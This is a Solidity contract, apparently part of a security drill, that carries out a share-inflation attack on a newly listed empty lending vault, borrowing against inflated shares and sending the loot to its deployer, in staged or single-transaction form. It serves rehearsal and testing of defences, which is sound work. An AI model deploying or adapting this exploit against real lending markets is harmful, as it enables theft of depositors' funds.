// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {FungibleToken} from "./FungibleToken.sol";
import {LendingMarket} from "./LendingMarket.sol";
import {LendingVault} from "./LendingVault.sol";

/// @title InflationAttack
/// @notice The drill's thief: empties the vaults next to a newly listed empty `SupplyVault`.
/// @dev Problem: a drill must meet the theft it rehearses, once slowly enough for a guardian to step in and once in a
/// single transaction, where nobody can. Design: the slow form is `setUp`, then `borrowFrom` for each vault, then
/// `exit`; with four vaults that is six transactions. The fast form is `all`. The bug is described in `SupplyVault`.
/// Trust: only the deployer, the thief, can call it, and gets everything. Failure modes: against
/// `SupplyVaultPatched` the first loan reverts and the donation is lost; if the market is paused before `exit`, the
/// donation stays in the vault and the loot here.
contract InflationAttack {
    /// @notice Only the thief may call this.
    error NotThief(address caller);
    /// @notice The theft needs a vault that nobody else has supplied.
    error VaultNotEmpty(address vault, uint256 shares);
    /// @notice There is nothing to exit from.
    error NotSetUp();
    /// @notice The lists differ in length.
    error LengthMismatch(uint256 vaults, uint256 amounts);

    /// @notice Shares that are kept: two is what makes one pay for both.
    uint256 public constant SHARES_KEPT = 2;

    /// @notice The account that gets everything.
    address public immutable thief = msg.sender;
    /// @notice The market that is robbed.
    LendingMarket public immutable market;
    /// @notice The empty vault whose share price is blown up.
    LendingVault public inflated;
    FungibleToken[] private _loot;

    modifier onlyThief() {
        if (msg.sender != thief) revert NotThief(msg.sender);
        _;
    }

    constructor(LendingMarket market_) {
        market = market_;
    }

    /// @notice Supplies `seed` to the empty vault, redeems all but two shares and donates `donation` to it. What this
    /// contract does not hold of the capital, it takes from the thief's allowance.
    function setUp(LendingVault vault, uint256 seed, uint256 donation) external onlyThief {
        _setUp(vault, seed, donation);
    }

    /// @notice Borrows `assets` of `vault` against the two shares.
    function borrowFrom(LendingVault vault, uint256 assets) external onlyThief {
        _borrowFrom(vault, assets);
    }

    /// @notice Takes the donation back for one share and hands everything to the thief.
    function exit() external onlyThief {
        _exit();
    }

    /// @notice The whole theft in one transaction.
    function all(
        LendingVault vault,
        uint256 seed,
        uint256 donation,
        LendingVault[] calldata vaults,
        uint256[] calldata amounts
    ) external onlyThief {
        if (vaults.length != amounts.length) {
            revert LengthMismatch(vaults.length, amounts.length);
        }
        _setUp(vault, seed, donation);
        for (uint256 i = 0; i < vaults.length; i++) {
            _borrowFrom(vaults[i], amounts[i]);
        }
        _exit();
    }

    function _setUp(LendingVault vault, uint256 seed, uint256 donation) private {
        uint256 supply = vault.totalSupply();
        if (supply != 0) revert VaultNotEmpty(address(vault), supply);
        inflated = vault;
        FungibleToken asset = FungibleToken(vault.asset());
        _loot.push(asset);

        uint256 held = asset.balanceOf(address(this));
        if (held < seed + donation) _pull(asset, seed + donation - held);
        asset.approve(address(vault), seed);
        uint256 shares = vault.deposit(seed, address(this));
        vault.redeem(shares - SHARES_KEPT, address(this), address(this));
        _push(asset, address(vault), donation);
    }

    function _borrowFrom(LendingVault vault, uint256 assets) private {
        market.borrow(address(vault), assets);
        _loot.push(FungibleToken(vault.asset()));
    }

    /// @dev All but one unit is worth a hair less than two shares, which the vulnerable vault rounds down to one.
    function _exit() private {
        if (address(inflated) == address(0)) revert NotSetUp();
        uint256 worth = inflated.convertToAssets(inflated.balanceOf(address(this)));
        inflated.withdraw(worth - 1, address(this), address(this));
        for (uint256 i = 0; i < _loot.length; i++) {
            _push(_loot[i], thief, _loot[i].balanceOf(address(this)));
        }
        delete _loot;
    }

    // The drill's tokens revert instead of returning false, so the returned value says nothing.

    function _pull(FungibleToken asset, uint256 assets) private {
        // forge-lint: disable-next-line(erc20-unchecked-transfer)
        asset.transferFrom(thief, address(this), assets);
    }

    function _push(FungibleToken asset, address to, uint256 assets) private {
        // forge-lint: disable-next-line(erc20-unchecked-transfer)
        asset.transfer(to, assets);
    }
}
